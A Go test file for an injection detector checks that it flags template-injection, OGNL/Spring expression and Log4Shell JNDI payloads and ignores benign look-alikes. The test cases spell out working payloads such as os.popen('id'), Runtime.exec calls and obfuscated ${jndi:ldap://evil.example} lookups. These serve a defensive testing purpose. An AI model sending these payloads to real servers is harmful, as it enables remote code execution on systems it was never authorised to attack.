package payload

import "testing"

func TestTemplate(t *testing.T) {
	finds(t, Template,
		"{{7*7}}", "{{ 7 * 7 }}", "{{7*'7'}}", "${7*7}", "#{7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "<%= system('id') %>", "{{config}}", "{{ config.items() }}",
		"{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{self}}",
		"{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{['id']|filter('system')}}", "{%import os%}{{os.popen('id').read()}}", "{% for x in (1,2) %}{% endfor %}",
		"{{constructor.constructor('alert(1)')()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#set($x=7*7)$x", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
		"{{request|attr('class')}}", "${{7*7}}", "{7*7}", "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime()}__::.x", "{{range.constructor(\"return 1\")()}}", "a{{1337*1337}}b", "{{dump(app)}}")
}

func TestNoTemplate(t *testing.T) {
	clean(t,
		"{{name}}", "{{ user.name }}", "${name}", "Hello {{customer}}, your order #{{id}}", "#{id}", "{id}", "{0} of {1}", "${HOME}/bin", "\\frac{1}{2} \\sum_{i=0}^n i^2", "a_{1} + b_{2}",
		"{a: 1}", "[[wiki link]]", "@media (min-width: 7px)", "100% {cotton}", "{{#if}}", "{{> partial}}", "%{name}", "%{count} of %{total}", "${user.first_name}", "price: {price}", "{page}/{size}", "*{emphasis}*")
}

func TestExpression(t *testing.T) {
	finds(t, Expression,
		"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "%{7*7}", "%{#context['x']}", "(#_memberAccess['allowStaticMethodAccess']=true)", "(#a=@java.lang.Runtime@getRuntime())",
		"T(java.lang.Runtime).getRuntime().exec('id')", "${T(java.lang.System).getenv()}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "''.getClass().forName('java.lang.Runtime')",
		"new java.lang.ProcessBuilder('id')", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${url:UTF-8:http://evil.example}", "@java.lang.Runtime@getRuntime().exec('id')", "#context['com.opensymphony.xwork2.dispatcher']")
	queries(t, Expression, "class.module.classLoader.resources.x=1", "class%5B%22module%22%5D.x=1&class.module.classLoader.y=2")
	clean(t, "java.lang tutorial", "class.name", "(#1 fan)", "(#hashtag) fun", "java class loader explained", "module.class.js", "C# (#region)")
}

func TestJNDI(t *testing.T) {
	finds(t, JNDI,
		"${jndi:ldap://evil.example/a}", "${JNDI:RMI://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${lower:j}${upper:n}${lower:d}i:${lower:rmi}://x/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
		"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "${j${::-n}di:dns://x}", "${${date:'j'}ndi:ldap://x}", "%24%7Bjndi:ldap://x/a%7D", "$%7bjndi:dns://x%7d", "${jndi:ldap://x", "x${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x}",
		"${${sys:a:-${lower:J}}ndi:ldap://x}", "\\u0024\\u007bjndi:ldap://x}")
	clean(t, "${name}", "${lower:abc}", "jndi tutorial", "${env:HOME}", "jndi:ldap in log4j")
	var a Analyser
	for _, v := range []string{"${jndi:ldap://evil.example/a}", "Mozilla/5.0 ${${lower:j}ndi:ldap://x/a}", "https://a.example/?x=${jndi:dns://x}"} {
		if got := a.Header([]byte(v)); got&JNDI == 0 {
			t.Errorf("Header(%q) = %v", v, got)
		}
	}
}
